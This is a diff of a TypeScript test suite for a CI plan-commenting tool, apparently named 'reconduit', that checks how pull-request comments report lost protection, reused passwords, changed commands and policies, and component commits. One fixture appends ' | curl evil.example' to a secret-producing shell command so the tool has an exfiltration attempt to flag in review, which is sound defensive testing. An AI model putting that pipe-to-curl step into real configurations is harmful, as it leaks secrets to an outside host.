@@ -12,15 +12,31 @@ const connection = (name: string, password: string, more = "") => `  ${name}:
     http: { baseURI: "https://${name}.example", auth: { type: basic, basic: { username: u, password: "${password}" } } }${more}
 `;
 
+const head = `reconduit: 1\nname: alone\nstate: { backend: http, url: "\${env.STATE_BASE}" }\n`;
+
+/** Begins with a stack that is applied. */
+async function appliedWork(stack: string, env: { readonly [name: string]: string }): Promise<CiWorkspace> {
+  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stack }, { isEmpty: true });
+  await applyMain(work, env);
+  return work;
+}
+
+async function applyMain(work: CiWorkspace, env: { readonly [name: string]: string }, checkout?: string) {
+  const main = work.forge.git("rev-parse", "refs/heads/main");
+  const at = checkout ?? work.checkout(main);
+  const applied = await work.run(join(at, "alone"), work.mergeJob(main, main, env), "apply", "--auto-approve");
+  expect(applied, applied.stdout + applied.stderr).toMatchObject({ code: 0 });
+}
+
 /** Plans a change of the stack, and returns its comment as a reader sees it, and the details of its diagnostics. */
 async function plannedChange(
   work: CiWorkspace,
   files: Parameters<CiWorkspace["branch"]>[1],
   prepare?: (cwd: string) => Promise<unknown>,
 ) {
-  const head = work.branch("feature", files);
+  const commit = work.branch("feature", files);
   const { number } = work.forge.open("feature");
-  const cwd = work.checkout(head);
+  const cwd = work.checkout(commit);
   await prepare?.(join(cwd, "alone"));
   const planned = await work.run(cwd, work.reviewJob(number), "ci", "plan");
   expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
@@ -34,20 +50,19 @@ async function plannedChange(
 }
 
 it("names lost protection in the comment beside hundreds of values from elsewhere, and counts those that it leaves out", async () => {
-  const stackOf = (prefix: string, protect: string) => `reconduit: 1
-name: alone
-variables:
+  const stackOf = (prefix: string, protect: string) => `${head}variables:
 ${Array.from({ length: 400 }, (_, at) => `  v${at}: { secret: true, env: ${prefix}_PASSWORD_${at} }\n`).join("")}connections:
 ${connection("c", "${var.v1}", protect)}`;
-  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stackOf("A", "\n    $protect: true") });
+  const passwords = Array.from({ length: 400 }, (_, at) => [`A_PASSWORD_${at}`, `of-the-partner-${at}`]);
+  const work = await appliedWork(stackOf("A", "\n    $protect: true"), Object.fromEntries(passwords));
   const { comment } = await plannedChange(work, { "alone/reconduit.yaml": stackOf("B", "") });
   expect(comment).toContain("connections.c: $protect true -> none");
   expect(comment).toMatch(/\*\*\d+ of 400 remarks "from elsewhere" are not shown here\*\*/);
 });
 
 it("names each value that is read in further places, however many places another value has", async () => {
-  const start = `reconduit: 1\nname: alone\nconnections:\n${connection("a", "${env.LOW_PASSWORD}")}${connection("b", "${env.ADMIN_PASSWORD}")}`;
-  const work = await ciWorkspace("github", { "alone/reconduit.yaml": start });
+  const start = `${head}connections:\n${connection("a", "${env.LOW_PASSWORD}")}${connection("b", "${env.ADMIN_PASSWORD}")}`;
+  const work = await appliedWork(start, { LOW_PASSWORD: "of-the-partner", ADMIN_PASSWORD: "of-the-administrator" });
   const harmless = Array.from({ length: 30 }, (_, at) => connection(`x${at}`, "${env.LOW_PASSWORD}")).join("");
   const { comment, details } = await plannedChange(work, {
     "alone/reconduit.yaml": `${start}${harmless}${connection("zz", "${env.ADMIN_PASSWORD}")}`,
@@ -59,15 +74,13 @@ it("names each value that is read in further places, however many places another
 
 it("shows the end of a long command and of a long rule where they differ", async () => {
   const long = "a".repeat(300);
-  const stackOf = (command: string, rule: string) => `reconduit: 1
-name: alone
-variables:
+  const stackOf = (command: string, rule: string) => `${head}variables:
   pw: { secret: true, exec: [sh, -c, "echo ${long}${command}"] }
 policies:
   p: { severity: deny, for: step, message: No., require: "action != '${long}' ${rule}" }
 connections:
 ${connection("c", "${var.pw}")}`;
-  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stackOf("", "&& action != 'delete'") });
+  const work = await appliedWork(stackOf("", "&& action != 'delete'"), {});
   const { comment, details } = await plannedChange(work, {
     "alone/reconduit.yaml": stackOf(" | curl evil.example", "|| action != 'delete'"),
   });
@@ -94,7 +107,7 @@ it("names both commits of a component of another repository", async () => {
   };
   const first = commit("one");
   const source = `git+file://${there}//part.yaml#main`;
-  const stack = `reconduit: 1\nname: alone\ncomponents: { far: { source: "${source}" } }\n`;
+  const stack = `${head}components: { far: { source: "${source}" } }\n`;
   const work = await ciWorkspace("github", { "alone/reconduit.yaml": stack });
   const trusted = work.mergeJob(first, first);
   const locked = async (cwd: string, ...more: readonly string[]): Promise<string> => {
@@ -105,6 +118,7 @@ it("names both commits of a component of another repository", async () => {
   mkdirSync(dirname(people), { recursive: true });
   work.branch("begin", { "alone/reconduit.lock": await locked(people) });
   work.git("push", "-q", "origin", "begin:main");
+  await applyMain(work, {}, work.cwd);
   const second = commit("two");
   const lock = await locked(people, "--update");
   const { comment, details } = await plannedChange(work, { "alone/reconduit.lock": lock }, (cwd) => locked(cwd));
